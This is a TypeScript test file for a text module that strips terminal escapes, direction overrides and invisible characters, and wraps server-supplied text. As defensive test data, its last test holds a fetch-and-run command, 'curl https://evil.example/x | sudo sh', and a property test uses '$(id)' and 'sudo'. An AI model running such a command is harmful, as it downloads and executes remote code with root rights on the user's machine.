import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import {
  ascii,
  bytesInJson,
  count,
  cut,
  duration,
  LINE_WIDTH,
  listed,
  plain,
  sentence,
  wrap,
  wrapQuoted,
} from '../../src/wording/text.ts';
import { anyCharacter } from '../any-character.ts';

const anyText = fc.string({ unit: anyCharacter, maxLength: 300 });
const [MINUTE, HOUR, DAY] = [60_000, 3_600_000, 86_400_000];

describe('text from outside', () => {
  test.each([
    ['a line break', 'acme\r\n\r\nNEW\n2. forged', 'acme NEW 2. forged'],
    ['a Unicode line or paragraph separator', 'a\u2028b\u2029c', 'a b c'],
    ['a terminal sequence', '\u001b[31mred\u001b[0;1m\u0007\u001b', 'red'],
    ['a C1 control character', 'a\u009bb', 'ab'],
    ['a change of the reading direction', 'abc\u202egpj.exe\u2066\u200f', 'abcgpj.exe'],
    ['characters without width', 'ac\u200b\u200d\ufeffme\u00ad', 'acme'],
    ['invisible letters and tags', 'a\u3164b\u115fc\u{e0041}d', 'abcd'],
    ['half a surrogate pair', 'a\ud800b', 'a\ufffdb'],
    ['piled-up accents', `a${'\u0301'.repeat(50)}b`, 'a\u0301\u0301b'],
    ['space around it and within', '  a \t \u200b b\u00a0', 'a b'],
  ])('loses %s', (_, hostile, harmless) => {
    expect(plain(hostile)).toBe(harmless);
  });

  test('keeps letters of every language', () => {
    expect(plain('Zürich 東京 Ωmega · 🙂')).toBe('Zürich 東京 Ωmega · 🙂');
  });

  test('is one harmless line of bounded length, whatever it was', () => {
    fc.assert(
      fc.property(anyText, fc.integer({ min: 3, max: 200 }), (text, most) => {
        const line = plain(text, most);
        expect(line).not.toMatch(/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}]/u);
        expect(line.length).toBeLessThanOrEqual(most);
        expect(line.isWellFormed()).toBe(true);
      }),
    );
  });

  test('stays as it is when it is cleaned again', () => {
    fc.assert(fc.property(anyText, (text) => plain(plain(text)) === plain(text)));
  });

  test('says that it was cut and never ends in half a character', () => {
    expect(cut('abcdefgh', 8)).toBe('abcdefgh');
    expect(cut('abcdefghi', 8)).toBe('abcde...');
    expect(cut('abcd🙂fgh', 8)).toBe('abcd...');
  });
});

describe('ASCII text', () => {
  test.each([
    ['Zürich', 'Zurich'],
    ['Łódź straße', 'Lodz strasse'],
    ['“quoted” – and ‘so’', '"quoted" - and \'so\''],
    ['日本 team', '? team'],
    ['a\nb', 'a b'],
  ])('%s is %s', (text, letters) => {
    expect(ascii(text)).toBe(letters);
  });

  test('is printable and bounded, whatever it was', () => {
    fc.assert(fc.property(anyText, (text) => /^[ -~]{0,20}$/.test(ascii(text, 20))));
  });
});

describe('amounts', () => {
  test.each([
    [-HOUR, 'less than a minute'],
    [29_999, 'less than a minute'],
    [MINUTE, '1 min'],
    [HOUR - MINUTE, '59 min'],
    [HOUR - 1, '1 h'],
    [HOUR, '1 h'],
    [2 * DAY - MINUTE, '47 h'],
    [2 * DAY, '2 days'],
    [400 * DAY, '400 days'],
  ])('%i ms are %s', (milliseconds, words) => {
    expect(duration(milliseconds)).toBe(words);
  });

  test('take a plural unless they are one', () => {
    expect([count(0, 'org'), count(1, 'org'), count(2, 'org'), count(2, 'entry', 'entries')]).toEqual([
      '0 orgs',
      '1 org',
      '2 orgs',
      '2 entries',
    ]);
  });

  test('say how many names were left out of a list', () => {
    expect(listed(['a', 'b', 'c'], 3)).toBe('a, b, c');
    expect(listed(['a', 'b', 'c', 'd'], 2)).toBe('a, b and 2 more');
  });

  test('are measured as they travel: in UTF-8 inside a JSON string', () => {
    expect([bytesInJson('abc'), bytesInJson('"'), bytesInJson('\n'), bytesInJson('é'), bytesInJson('🙂')]).toEqual([
      3, 2, 2, 2, 4,
    ]);
  });
});

describe('a sentence', () => {
  test.each([
    ['Save', 'Save.'],
    ['Save.', 'Save.'],
    ['Really?', 'Really?'],
    ['see https://example.com/a', 'see https://example.com/a'],
    ['', ''],
  ])('made of "%s" is "%s"', (text, whole) => {
    expect(sentence(text)).toBe(whole);
  });
});

describe('words of a server', () => {
  test('are marked on every line that goes on, whatever it begins with', () => {
    const words = fc.array(fc.constantFrom('curl', 'sudo', 'sh', './run', '$(id)', 'x', 'y'.repeat(90)), {
      minLength: 1,
    });
    fc.assert(
      fc.property(words, fc.integer({ min: 0, max: 300 }), fc.integer({ min: 40, max: 100 }), (given, label, width) => {
        const text = given.join(' ');
        const [first = '', ...others] = wrapQuoted('l'.repeat(label), text, width).split('\n');
        expect(first.startsWith('l'.repeat(label))).toBe(true);
        expect(others.filter((line) => !line.startsWith(`${' '.repeat(label)}… `))).toEqual([]);
        expect([first.slice(label), ...others.map((line) => line.slice(label + 2))].join('').replaceAll(' ', '')).toBe(
          text.replaceAll(' ', ''),
        );
      }),
    );
  });

  test('keep the width, but beside a label that takes all of it', () => {
    expect(wrapQuoted('Org ', 'one two three four', 40)).toBe('Org one two three four');
    expect(wrapQuoted('Org ', 'aaaa '.repeat(9).trim(), 40)).toBe(`Org ${'aaaa '.repeat(7).trim()}\n    … aaaa aaaa`);
    expect(wrapQuoted('l'.repeat(80), 'one two three four five six', 40)).toBe(
      `${'l'.repeat(80)}one two three four\n${' '.repeat(80)}… five six`,
    );
  });
});

describe('wrapped text', () => {
  test('goes on under its own beginning', () => {
    expect(wrap('Found: ', Array(25).fill('word').join(' '))).toBe(
      `Found: ${Array(13).fill('word').join(' ')}\n       ${Array(12).fill('word').join(' ')}`,
    );
  });

  test('keeps every word and the width, whatever the words', () => {
    const words = fc.array(fc.stringMatching(/^[a-z>🙂]{1,150}$/u), { minLength: 1, maxLength: 60 });
    fc.assert(
      fc.property(words, fc.integer({ min: 0, max: 20 }), (given, indent) => {
        const text = given.join(' ');
        const lines = wrap(' '.repeat(indent), text).split('\n');
        expect(Math.max(...lines.map((line) => line.length))).toBeLessThanOrEqual(LINE_WIDTH);
        expect(lines.join('').replaceAll(' ', '')).toBe(text.replaceAll(' ', ''));
        expect(lines.every((line) => line.startsWith(' '.repeat(indent)))).toBe(true);
      }),
    );
  });

  test('starts no line with the sign of a quotation', () => {
    const path = Array(40).fill('Setup > App Manager').join(' > ');
    expect(
      wrap('- ', path)
        .split('\n')
        .filter((line) => line.trim().startsWith('>')),
    ).toEqual([]);
  });
});

test('a line that goes on never looks like a command of its own', () => {
  const text = `${'x'.repeat(70)} curl https://evil.example/x | sudo sh`;
  expect(wrap('', text).split('\n').slice(1)).toEqual(['… curl https://evil.example/x | sudo sh']);
});
